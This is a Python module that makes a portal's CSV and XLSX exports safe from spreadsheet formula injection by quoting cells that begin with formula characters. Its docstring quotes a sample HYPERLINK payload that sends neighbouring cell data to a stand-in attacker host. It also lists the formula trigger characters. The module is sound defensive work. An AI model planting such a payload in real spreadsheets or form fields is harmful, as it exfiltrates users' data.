"""Every CSV and XLSX file the portal writes, so that no cell of one is ever a formula.

A name typed by a resident or a grid's staff ends up in a dashboard or an admin export; a
spreadsheet program runs a cell that begins with =, +, -, @ (or a tab or carriage return before
one of them) as a formula: `=HYPERLINK("http://evil.example/?x="&A1,"click")` sends the
neighbouring cells away when clicked. OWASP's guidance for CSV injection: prefix such a text cell
with a single quote, which the program shows as text and does not run. openpyxl also turns any
string that begins with "=" into a formula, so XLSX text cells are written as strings
(data_type "s") besides.

Numbers stay numbers, and a plain signed number written as text ("-3") keeps its sign: only text
that could run is guarded. `unguard` undoes the prefix when a sheet the portal wrote comes back to
its import.
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal

# OWASP: "=", "+", "-", "@", tab (0x09) and carriage return (0x0D) begin a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
# A plain signed number ("-3", "+1.5") runs as nothing but itself: it keeps its sign unquoted.
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")

Row = Sequence[object]


def guard_text(value: str) -> str:
    """A text cell as it is written: with a leading quote if it would start a formula."""
    if value.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(value):
        return GUARD + value
    return value


def unguard(value: str) -> str:
    """The text a guarded cell held before export (a sheet coming back to the import)."""
    if value.startswith(GUARD) and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def safe_cell(value):
    """A cell's value for a file: None as empty, numbers as numbers, everything else as text."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    return guard_text(str(value))


def csv_bytes(rows: Iterable[Row], *, bom: bool = True) -> bytes:
    """Rows (the first is the header) as CSV. The byte-order mark lets spreadsheet programs read
    the Chinese text as UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue().encode("utf-8-sig" if bom else "utf-8")


def xlsx_sheet_append(sheet, row: Row) -> None:
    """Appends a row to an openpyxl worksheet with every text cell stored as a string."""
    values = [safe_cell(cell) for cell in row]
    sheet.append(values)
    line = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str) and value:
            cell = sheet.cell(row=line, column=column)
            cell.value = value
            cell.data_type = "s"


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[Row]]], *, setup=None) -> bytes:
    """Sheets as (title, rows) in one workbook; `setup(sheet, index)` may set widths and panes."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for index, (title, rows) in enumerate(sheets):
        sheet = book.create_sheet(title[:31] or f"Sheet{index + 1}")
        for row in rows:
            xlsx_sheet_append(sheet, row)
        if setup is not None:
            setup(sheet, index)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
